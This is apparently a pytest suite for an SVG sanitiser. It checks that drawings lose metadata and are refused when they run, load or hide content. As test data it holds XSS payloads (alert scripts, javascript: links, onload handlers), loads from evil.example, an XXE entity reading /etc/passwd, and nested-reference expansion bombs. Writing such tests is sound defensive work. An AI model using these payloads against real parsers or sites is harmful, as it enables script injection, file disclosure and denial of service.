"""Drawings (SVG): what draws is written anew, what tells goes, what runs or hides is refused."""

from collections.abc import Callable

import pytest
from cost import cost
from hypothesis import given, settings
from hypothesis import strategies as st

from kbgen.model.picture import Fault
from kbgen.publish.media.clean import cleaned
from kbgen.publish.media.svg_tables import DRAWN

MARK = "qzxinternal"
SVG = "http://www.w3.org/2000/svg"
HEAD = (
    f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:ink="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 9 9">'
)
RECT = '<rect width="5" height="5"/>'


def svg(inside: str) -> bytes:
    return f"{HEAD}\n{inside}\n</svg>".encode()


def clean(inside: str) -> str:
    found = cleaned("a.svg", svg(inside))
    assert isinstance(found, bytes), found
    return found.decode()


def inner(inside: str) -> str:
    """Return what is written of *inside*."""
    return clean(inside).removesuffix("</svg>\n").partition(">")[2]


def fault(data: bytes) -> Fault:
    found = cleaned("a.svg", data)
    assert isinstance(found, Fault), found
    return found


TELLING = {
    "metadata": f"<metadata><rdf>{MARK}</rdf></metadata>",
    "title": f"<title>{MARK}</title>",
    "colour profile": f'<color-profile name="{MARK}"/>',
    "description": f"<g><desc>{MARK}</desc></g>",
    "comment": f"<!-- {MARK} -->",
    "instruction": f"<?editor {MARK}?>",
    "element of an editor": f'<ink:view ink:name="{MARK}"><rect id="{MARK}"/></ink:view>',
    "script in metadata": f"<metadata><script>{MARK}</script></metadata>",
    "attribute of an editor": f'<g ink:label="{MARK}"/>',
    "namespace": f'<g xmlns:x="http://{MARK}.example/" x:y="1"/>',
    "data attribute": f'<g data-name="{MARK}"/>',
    "label for readers": f'<g aria-label="{MARK}"/>',
    "language": f'<g xml:lang="{MARK}"/>',
    "base": f'<g xml:base="http://{MARK}.example/"/>',
    "id that nothing points to": f'<g id="{MARK}"/>',
    "id that something points to": f'<g id="{MARK}"/><use href="#{MARK}"/>',
    "id that a colour points to": f'<linearGradient id="{MARK}"/><rect fill="url(#{MARK})"/>',
    "id that a style points to": (
        f'<linearGradient id="{MARK}"/><rect style="fill:url(#{MARK})"/>'
    ),
    "id that is not there": f'<rect fill="url(#{MARK})"/><use href="#{MARK}"/>',
    "class without a rule": f'<g class="{MARK}"/>',
    "class with a rule": f'<style>.{MARK}{{fill:red}}</style><rect class="{MARK} other"/>',
    "rule that fits nothing": f"<style>.{MARK}, #{MARK} rect{{fill:red}}</style>",
    "comment in a style": f"<style>/* {MARK} */ rect{{fill:red}}</style>",
    "unknown property in a style": f"<style>rect{{-ink-font:{MARK};fill:red}}</style>",
    "unknown property": f'<rect style="-ink-font-specification:{MARK};fill:red"/>',
    "comment in a property": f'<rect style="fill:red;/* {MARK} */"/>',
    "text outside of texts": f"<g>{MARK}</g>",
    "text between lines of a style": f"<g>{MARK}<style>rect{{fill:red}}</style></g>",
}


@pytest.mark.parametrize("place", TELLING)
def test_l12_what_a_drawing_tells_besides_its_lines_goes(place: str) -> None:
    assert MARK in svg(TELLING[place]).decode()
    found = clean(TELLING[place] + RECT)
    assert MARK not in found
    assert '<rect height="5" width="5"></rect>' in found


@pytest.mark.parametrize(
    "head",
    [
        f'<!DOCTYPE {"svg"} PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://{MARK}.example/svg11.dtd">',
        f"<!-- {MARK} -->",
        f"<?editor {MARK}?>",
    ],
    ids=["document type", "comment", "instruction"],
)
def test_l12_what_stands_before_a_drawing_goes(head: str) -> None:
    found = cleaned("a.svg", head.encode() + svg(RECT))
    assert isinstance(found, bytes)
    assert MARK not in found.decode()
    assert found == cleaned("a.svg", svg(RECT))


def test_a_drawing_keeps_what_draws() -> None:
    found = inner(
        '<defs><linearGradient id="sky"><stop offset="0" stop-color="#fff"/></linearGradient>'
        "</defs><style>.cls-1, rect.big > #x {fill:url(#sky);stroke : red}</style>"
        '<g id="x" transform="translate(1 2)"><path class="cls-1" d="M0 0L9-9z"/></g>'
        '<use xlink:href="#x" x="3"/>'
        '<text x="1" style="font-size:3px;fill:url(&quot;#sky&quot;)">A &amp; '
        "<tspan>B</tspan></text>"
    )
    assert found == (
        "<style>.c1,rect.x0 &gt; #a2{fill:url(#a1);stroke:red}</style>"
        '<defs><linearGradient id="a1"><stop offset="0" stop-color="#fff"></stop></linearGradient>'
        '</defs><g id="a2" transform="translate(1 2)"><path class="c1" d="M0 0L9-9z"></path></g>'
        '<use href="#a2" x="3"></use>'
        '<text style="font-size:3px;fill:url(#a1)" x="1">A &amp; <tspan>B</tspan></text>'
    )


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_a_drawing_in_any_encoding_is_written_in_one(encoding: str) -> None:
    text = "<text>\u00dcber</text>"
    name = encoding.removesuffix("-sig")
    data = f'<?xml version="1.0" encoding="{name}"?>{HEAD}{text}</svg>'.encode(encoding)
    found = cleaned("a.svg", data)
    assert isinstance(found, bytes)
    assert "<text>\u00dcber</text>" in found.decode()


REFUSED = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": '<script href="https://evil.example/a.js"/>',
    "script as CDATA": "<script><![CDATA[alert(1)]]></script>",
    "handler": '<rect onclick="alert(1)"/>',
    "handler in capitals": '<rect ONLOAD="alert(1)"/>',
    "handler of an animation": '<g onbegin="alert(1)"/>',
    "HTML in a drawing": "<foreignObject><p>x</p></foreignObject>",
    "frame": '<g><iframe src="//evil.example"/></g>',
    "picture in a drawing": '<image href="data:image/png;base64,AAAA"/>',
    "picture from elsewhere": '<image xlink:href="https://evil.example/x.png"/>',
    "link": '<a href="https://evil.example"><rect/></a>',
    "part from elsewhere": '<use href="https://evil.example/x.svg#a"/>',
    "part from another file": '<use xlink:href="other.svg#a"/>',
    "part as data": '<use href="data:image/svg+xml,x"/>',
    "part that runs": '<use href="javascript:alert(1)"/>',
    "animation": '<rect><animate attributeName="x" to="9"/></rect>',
    "change of a link": '<set attributeName="href" to="javascript:alert(1)"/>',
    "choice": "<switch><g/></switch>",
    "style that loads": '<rect style="fill:url(https://evil.example/x)"/>',
    "style that loads, in capitals": '<rect style="fill:URL(//evil.example/x)"/>',
    "attribute that loads": '<rect fill="url(https://evil.example/x)"/>',
    "attribute that loads another file": '<rect filter="url(x.svg#a)"/>',
    "style with an escape": r'<rect style="fill:\75rl(https://evil.example/x)"/>',
    "sheet that imports": '<style>@import url("https://evil.example/x.css");</style>',
    "sheet with a font": "<style>@font-face{font-family:x;src:url(//evil.example)}</style>",
    "sheet for a medium": "<style>@media print{rect{fill:red}}</style>",
    "sheet that asks for attributes": '<style>rect[id^="a"]{fill:red}</style>',
    "sheet that loads": "<style>rect{fill:url(https://evil.example/x)}</style>",
    "sheet from elsewhere": '<link xmlns="http://www.w3.org/2000/svg" href="x.css"/>',
    "filter that loads": '<filter><feImage href="https://evil.example/x"/></filter>',
    "colour that runs": '<rect fill="expression(alert(1)):x"/>',
}


@pytest.mark.parametrize("name", REFUSED)
def test_l12_m7_a_drawing_that_runs_or_loads_something_is_refused(name: str) -> None:
    found = fault(svg(f"{RECT}\n{REFUSED[name]}"))
    assert (found.code, found.line) == ("KB224", 3)
    assert found.todo


HIDDEN = {
    "not displayed": '<g display="none"><text>x</text></g>',
    "not displayed by style": '<g style="display : none"><text>x</text></g>',
    "not displayed by a sheet": "<style>.a{display:none}</style><g class='b a'/>",
    "not displayed by a sheet for all": "<style>* {display:none}</style>",
    "not displayed by the name of an element": "<style>g text{display:none}</style><text>x</text>",
    "not displayed by id": "<style>#x{display:none!important}</style><g id='x'/>",
    "not visible": '<text visibility="hidden">x</text>',
    "collapsed": '<text style="visibility:collapse">x</text>',
    "clear": '<g opacity="0"><text>x</text></g>',
    "clear as a number with a point": '<g style="opacity:0.00"/>',
    "clear in per cent": '<text opacity="0%">x</text>',
    "letters of no size": '<text font-size="0px">x</text>',
    "text without a colour": '<text fill="none">x</text>',
    "text without a colour from around": '<g fill="none"><g><text>x</text></g></g>',
    "text in a clear colour": '<text fill-opacity="0">x</text>',
    "text in a part of a text": '<text>a<tspan fill="transparent">x</tspan></text>',
    "text in definitions": "<defs><text>x</text></defs>",
    "text deep in definitions": "<defs><g><g><text>x</text></g></g></defs>",
    "text in a symbol": '<symbol id="a"><text>x</text></symbol>',
    "text in a mask": '<mask id="a"><text>x</text></mask>',
    "text in a pattern": '<pattern id="a"><text>x</text></pattern>',
}


@pytest.mark.parametrize("name", HIDDEN)
def test_l12_a_drawing_that_hides_something_is_refused(name: str) -> None:
    found = fault(svg(HIDDEN[name]))
    assert found.code == "KB224"
    assert "hid" in found.what or "nobody" in found.what


@pytest.mark.parametrize(
    "inside",
    [
        '<g fill="none" stroke="red"><path d="M0 0"/><text stroke="none" fill="red">x</text></g>',
        '<text fill="none" stroke="red">x</text>',
        '<stop stop-opacity="0"/>',
        '<rect fill-opacity="0"/>',
        '<text fill="none">\n  <tspan fill="red">x</tspan></text>',
        '<text font-size="0.5">x</text>',
    ],
)
def test_a_drawing_may_leave_parts_without_a_colour(inside: str) -> None:
    assert clean(inside)


def _laughs(width: int, depth: int, use: str) -> bytes:
    lines = ['<g id="a0"><rect/></g>']
    for at in range(1, depth):
        lines.append(f'<g id="a{at}">' + use.format(at - 1) * width + "</g>")
    return svg("\n".join(lines))


BOMBS: dict[str, Callable[[], bytes]] = {
    "a billion parts": lambda: _laughs(10, 10, '<use href="#a{0}"/>'),
    "a billion parts, the old way": lambda: _laughs(10, 10, '<use xlink:href="#a{0}"/>'),
    "patterns of patterns": lambda: _laughs(10, 10, '<rect fill="url(#a{0})"/>'),
    "patterns by style": lambda: _laughs(10, 10, '<rect style="fill:url(#a{0})"/>'),
    "patterns by a sheet": lambda: svg(
        "<style>"
        + "".join(f".c{at}{{fill:url(#a{at})}}" for at in range(10))
        + '</style><g id="a0"/>'
        + "".join(
            f'<pattern id="a{at}">' + f'<rect class="c{at - 1}"/>' * 10 + "</pattern>"
            for at in range(1, 10)
        )
    ),
    "many steps down": lambda: svg(
        "".join(f'<g id="a{at}"><use href="#a{at + 1}"/></g>' for at in range(150))
    ),
    "a circle": lambda: svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "itself": lambda: svg('<g id="a"><use href="#a"/></g>'),
    "elements in each other": lambda: svg("<g>" * 200 + "</g>" * 200),
    "unseen elements in each other": lambda: svg("<metadata>" * 200 + "</metadata>" * 200),
    "many rules": lambda: svg("<style>" + ".a{fill:red}" * 10_000 + "</style>"),
    "many elements": lambda: svg("<g/>" * 30_000),
}


@pytest.mark.parametrize("name", BOMBS)
def test_m16_a_small_drawing_that_unfolds_to_a_large_one_is_refused(name: str) -> None:
    assert fault(BOMBS[name]()).code == "KB225"


ENTITIES = {
    "laughs": '<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>'
    + HEAD
    + "<text>&b;</text></svg>",
    "a file": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + HEAD + "&a;</svg>",
    "a file for the document type": (
        '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/a"> %a;]>' + HEAD + "</svg>"
    ),
    "an attribute for all": '<!DOCTYPE svg [<!ATTLIST g fill CDATA "red">]>' + HEAD + "<g/></svg>",
    "unknown": '<!DOCTYPE svg PUBLIC "a" "b">' + HEAD + "<text>&a;</text></svg>",
    "a style sheet": '<?xml-stylesheet href="http://evil.example/a.css"?>' + HEAD + "</svg>",
}


@pytest.mark.parametrize("name", ENTITIES)
def test_m16_a_drawing_declares_nothing_and_loads_nothing(name: str) -> None:
    assert fault(ENTITIES[name].encode()).code == "KB224"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (svg("<g>"), "KB221"),
        (b"<svg", "KB221"),
        (b'<?xml version="1.0" encoding="x"?><svg/>', "KB221"),
        (svg("&a;"), "KB221"),
        (b"<svg/>", "KB220"),
        (b"<html><svg/></html>", "KB220"),
        (f'<g xmlns="{SVG}"/>'.encode(), "KB220"),
        (f'<svg xmlns="{SVG}">{" " * 1_000_000}</svg>'.encode(), "KB222"),
    ],
    ids=["open", "half", "encoding", "entity", "no namespace", "page", "part", "too long"],
)
def test_m16_what_is_no_drawing_is_refused(data: bytes, code: str) -> None:
    assert fault(data).code == code


LONG = 900_000
AWKWARD = {
    "open comments in a sheet": "<style>" + "/* " * (LONG // 3) + "</style>",
    "one word in a sheet": "<style>" + "x" * LONG + "</style>",
    "dots in a sheet": "<style>" + "." * LONG + "{}</style>",
    "spaces in a selector": "<style>a" + " " * LONG + "b{}</style>",
    "open addresses": '<rect fill="' + "url(#" * (LONG // 5) + '"/>',
    "spaces in an address": '<rect fill="url(' + " " * LONG + '"/>',
    "spaces in a length": '<rect width="1' + " " * LONG + 'x"/>',
    "properties": '<rect style="' + "fill:red;" * (LONG // 9) + '"/>',
    "classes": '<style>.a{fill:red}</style><rect class="' + "a " * (LONG // 2) + '"/>',
    "rules": "<style>" + ".a{fill:red}" * 4_000 + "</style>" + '<g class="a"/>' * 100,
    "path": '<path d="' + "M0 0" * (LONG // 4) + '"/>',
}


@pytest.fixture(scope="module")
def usual() -> float:
    """Return the time that an ordinary drawing of that size takes."""
    return _seconds(svg('<path d="M0 0h9v9z"/>' * (LONG // 60)))


def _seconds(data: bytes) -> float:
    return cost(lambda: cleaned("a.svg", data))


@pytest.mark.parametrize("name", AWKWARD)
def test_m16_no_drawing_takes_much_longer_than_another_of_its_size(name: str, usual: float) -> None:
    assert _seconds(svg(AWKWARD[name])) < 10 * usual


_NAMES = st.sampled_from([*sorted(DRAWN - {"svg"}), "metadata", "title", "script"])
_ATTRIBUTES = st.sampled_from(
    [
        "id='a'",
        "href='#a'",
        "class='a b'",
        "fill='url(#a)'",
        "style='fill:red;x:y'",
        "onload=''",
        "",
    ]
)


@st.composite
def _drawings(draw: st.DrawFn) -> str:
    parts = draw(st.lists(st.tuples(_NAMES, _ATTRIBUTES, st.text(max_size=3)), max_size=8))
    text = ""
    for name, attribute, said in parts:
        inside = "".join(char for char in said if char.isalnum())
        text = f"<{name} {attribute}>{inside}{text}</{name}>" + (text if len(text) < 200 else "")
    return text


@settings(deadline=None, max_examples=100)
@given(_drawings())
def test_m16_whatever_stands_in_a_drawing_it_is_cleaned_or_refused(inside: str) -> None:
    found = cleaned("a.svg", svg(inside))
    assert isinstance(found, Fault) or cleaned("a.svg", found) == found
